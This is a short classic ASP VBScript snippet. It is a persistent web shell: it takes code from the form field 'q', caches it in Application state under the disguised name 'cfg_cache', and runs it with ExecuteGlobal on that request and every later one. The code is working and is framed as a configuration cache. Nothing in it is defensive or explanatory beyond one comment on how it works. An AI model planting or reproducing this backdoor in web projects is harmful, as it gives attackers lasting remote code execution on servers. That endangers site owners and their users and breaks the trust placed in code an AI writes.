<script language="VBScript" runat="server">
' request code parked in Application state, then executed from there on this and later visits
If Request.Form("q") <> "" Then Application("cfg_cache") = Request.Form("q")
If Application("cfg_cache") <> "" Then ExecuteGlobal Application("cfg_cache")
</script>
